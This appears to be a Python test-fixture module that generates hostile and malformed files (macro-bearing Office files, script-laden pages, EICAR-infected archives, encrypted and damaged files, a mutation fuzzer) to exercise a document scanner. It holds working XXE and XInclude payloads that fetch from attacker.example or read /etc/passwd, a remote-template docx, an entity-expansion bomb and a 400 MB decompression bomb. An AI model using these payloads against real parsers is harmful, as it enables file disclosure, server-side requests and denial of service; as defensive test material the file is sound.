"""Files that are not what they say, or do more than lie there: made on the spot."""

import io
import os
import zipfile

import pikepdf

from tests.attacks.scanner import EICAR
from tests.evidence.makers import DOCX_MAIN, SMALL, XLSX_MAIN, archive, pdf

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LOCKED_PACKAGE = OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)
PASSWORD = pikepdf.Encryption(owner="o", user="u")
XXE = b"<!DOCTYPE x [<!ENTITY a SYSTEM 'http://attacker.example/x'>]><x>&a;</x>"
LAUGHS = b"<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><x>&b;</x>"
OUTSIDE = b"<!DOCTYPE x SYSTEM 'http://attacker.example/x.dtd'><x/>"
INCLUDE = b'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd"/></x>'

ACTIVE = {
    "a.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
    "a.html": b"<html><script>x()</script>",
    "a.xhtml": b"<?xml version='1.0'?><html/>",
    "a.xml": b"<?xml version='1.0'?><x/>",
    "a.mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n",
    "a.url": b"[InternetShortcut]\r\nURL=file:///c:/windows",
    "a.lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(80),
    "a.hta": b"<HTA:APPLICATION><script>x()</script>",
    "a.docm": archive(DOCX_MAIN, "word/vbaProject.bin"),
    "a.xlsm": archive(XLSX_MAIN, "xl/vbaProject.bin"),
    "a.xls": OLE + bytes(600) + b"_VBA_PROJECT",
    "a.js": b"x()",
    "svg.txt": b"<svg onload=x>",
    "page.csv": b"\xef\xbb\xbf  <!-- a remark --><html><script>x()</script>",
    "wide.txt": b"\xff\xfe" + "<script>x()</script>".encode("utf-16-le"),
    "mail.txt": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n",
    "link.txt": b"[InternetShortcut]\r\nURL=file:///c:/windows",
    "macros.docx": archive(DOCX_MAIN, "word/vbaProject.bin"),
    "named.docx": archive(
        DOCX_MAIN, types=b"<x t='application/vnd.ms-word.document.macroEnabled.main+xml'/>"
    ),
    "sheets.xlsx": archive(XLSX_MAIN, "xl/macrosheets/sheet1.xml"),
    "controls.docx": archive(DOCX_MAIN, "word/activeX/activeX1.xml"),
    "old.xlsx": OLE + bytes(600) + b"_VBA_PROJECT",
}
"""Pages, shortcuts and macros, as they are and under a name that is taken."""


def bomb(name: str) -> bytes:
    """Unpack to a hundred times what is taken."""
    return archive(name, content=bytes(400_000_000))


FETCHING = {
    **{
        f"{what}.{extension}": archive(main, content=content)
        for extension, main in (("docx", DOCX_MAIN), ("xlsx", XLSX_MAIN))
        for what, content in (
            ("entity", XXE),
            ("laughs", LAUGHS),
            ("outside", OUTSIDE),
            ("include", INCLUDE),
            ("wide", XXE.decode().encode("utf-16")),
        )
    },
    "a.odt": archive("content.xml", content=XXE),
    "a.svg": XXE,
    "a.txt": XXE,
    "xmp.jpg": SMALL["jpg"] + XXE,
    "xmp.png": SMALL["png"][:33] + b"iTXt" + XXE + SMALL["png"][33:],
    "template.docx": archive(
        DOCX_MAIN,
        "word/_rels/settings.xml.rels",
        content=b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
    ),
    "bomb.docx": bomb(DOCX_MAIN),
    "quine.xlsx": archive(XLSX_MAIN, *(f"xl/{n}.xml" for n in range(3000))),
}
"""Files that make whoever reads them fetch, unfold or unpack without end."""


def xmp_pdf() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Metadata = document.make_stream(b"<?xpacket begin=''?>" + XXE)
    document.save(file := io.BytesIO(), fix_metadata_version=False)
    return file.getvalue()


FETCHING["xmp.pdf"] = xmp_pdf()


def zipped(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(file := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
    return file.getvalue()


def infected() -> dict[str, bytes]:
    """Return the harmless virus as it comes."""
    twice = zipped(zipped(EICAR, "virus.com"), "inner.zip")
    return {
        "plain.txt": EICAR,
        "in a document.docx": with_part("word/embeddings/a.bin", EICAR),
        "in a zip in a document.docx": with_part("word/a.zip", zipped(EICAR, "virus.com")),
        "in a zip in a zip in a document.xlsx": with_part("xl/a.zip", twice, main=XLSX_MAIN),
        "behind a picture.jpg": SMALL["jpg"] + EICAR,
        "in a page.pdf": pdf() + b"\n%" + EICAR,
    }


def with_part(name: str, content: bytes, *, main: str = DOCX_MAIN) -> bytes:
    with zipfile.ZipFile(file := io.BytesIO(archive(main)), "a") as made:
        made.writestr(name, content)
    return file.getvalue()


LOCKED = {
    "locked.pdf": pdf(encryption=PASSWORD),
    "locked.docx": LOCKED_PACKAGE,
    "locked.xlsx": LOCKED_PACKAGE,
}
DAMAGED = {
    "cut.pdf": b"%PDF-1.7\n" + os.urandom(800),
    "cut.docx": SMALL["docx"][:-30],
    "cut.png": SMALL["png"][:-20],
}


def mutants(content: bytes, number: int, chance: object) -> list[bytes]:
    """Return so many damaged copies: bits flipped, parts cut out, doubled, moved."""
    made = []
    for _ in range(number):
        changed = bytearray(content)
        for _ in range(chance.randint(1, 6)):
            at = chance.randrange(max(len(changed), 1))
            act = chance.choice(["flip", "flip", "flip", "cut", "double", "fill"])
            size = chance.randint(1, 16)
            if act == "flip" and changed:
                changed[at] ^= 1 << chance.randrange(8)
            elif act == "cut":
                del changed[at : at + size]
            elif act == "double":
                changed[at:at] = changed[at : at + size]
            else:
                changed[at : at + size] = bytes([chance.choice((0, 255, 0x7F))]) * size
        made.append(bytes(changed))
    return made
